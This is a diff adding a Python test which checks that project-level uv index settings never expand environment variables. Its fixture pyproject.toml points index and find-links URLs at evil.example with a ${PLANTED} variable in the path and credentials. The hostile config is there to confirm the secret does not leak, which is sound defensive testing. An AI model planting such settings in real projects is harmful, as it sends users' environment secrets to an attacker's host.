@@ -221,6 +221,21 @@ def test_indexes_of_variables_and_of_all_files_are_asked_in_the_order_of_uv(
     assert list(dict.fromkeys(asked)) == ours == list("vwjkped")
 
 
+def test_settings_of_a_project_have_no_variable_sent(tmp_path: Path) -> None:
+    """uv fills in none there either."""
+    (tmp_path / "pyproject.toml").write_text(
+        '[tool.uv]\nextra-index-url = ["https://evil.example/${PLANTED}/"]\n'
+        'find-links = ["https://${PLANTED}@evil.example/links/"]\n'
+        '[[tool.uv.index]]\nurl = "https://evil.example/${PLANTED}/"\ndefault = true\n'
+        '[[tool.uv.index]]\nname = "n"\nurl = "https://a:${PLANTED}@evil.example/"\n'
+    )
+    environ = {"HOME": str(tmp_path), "PLANTED": PLANTED, "UV_INDEX_N_PASSWORD": "p"}
+    settings = completed(IndexSettings(), "uv", environ, tmp_path)
+    asked = [*indexes(settings, environ), *(place(url, environ) for url in settings.find_links)]
+    assert len(asked) == 4
+    assert PLANTED not in repr([(spot.url, spot.auth) for spot in asked])
+
+
 @contextmanager
 def nothing_served(asked: list[str]) -> Iterator[str]:
     """Serve nothing, and note the first part of each path that is asked for."""
